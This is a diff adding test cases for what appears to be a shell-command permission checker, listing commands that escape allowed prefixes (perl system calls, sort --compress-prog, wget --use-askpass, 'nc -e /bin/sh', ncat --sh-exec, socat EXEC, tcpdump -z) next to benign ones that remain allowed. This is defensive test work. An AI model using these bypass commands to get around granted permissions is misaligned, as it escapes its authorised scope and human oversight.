@@ -152,6 +152,20 @@ NOT_SETTLED = [
     ("Bash(bash:*)", "bash -c 'ls'"),
     ("Bash(sh:*)", "sh -c 'ls'"),
     ("Bash(bash:*)", 'bash -c "$CODE"'),
+    ("Bash(python3:*)", "python3 -Ic 'print(1)'"),
+    ("Bash(perl:*)", "perl -ne 'system(\"id\")' f"),
+    ("Bash(perl:*)", "perl -M'POSIX;system(\"id\")' x.pl"),
+    ("Bash(node:*)", "node -pe 1"),
+    ("Bash(ruby:*)", "ruby -ne 'x'"),
+    ("Bash(php:*)", "php -r 'x'"),
+    ("Bash(sort:*)", "sort --compress-prog=id f"),
+    ("Bash(wget:*)", "wget --use-askpass=id https://example.com"),
+    ("Bash(nc:*)", "nc -e /bin/sh host 1"),
+    ("Bash(ncat:*)", "ncat --sh-exec id host 1"),
+    ("Bash(socat:*)", "socat - EXEC:id"),
+    ("Bash(tcpdump:*)", "tcpdump -w f -z id"),
+    ("Bash", "at now"),
+    ("Bash", "ssh-agent rm x"),
     ("Bash(psql:*)", "psql -c '\\! id'"),
     ("Bash(sqlite3:*)", "sqlite3 db '.shell id'"),
 ]
@@ -193,6 +207,10 @@ STILL_SETTLED = [
     ("Bash", "ls $HOME"),
     ("Bash", "git -C ~/project status"),
     ("Bash", "python script.py"),
+    ("Bash(python:*)", "python -m pytest -q"),
+    ("Bash(node:*)", "node app.js"),
+    ("Bash(sort:*)", "sort -u f"),
+    ("Bash(nc:*)", "nc -zv host 80"),
 ]
 
 
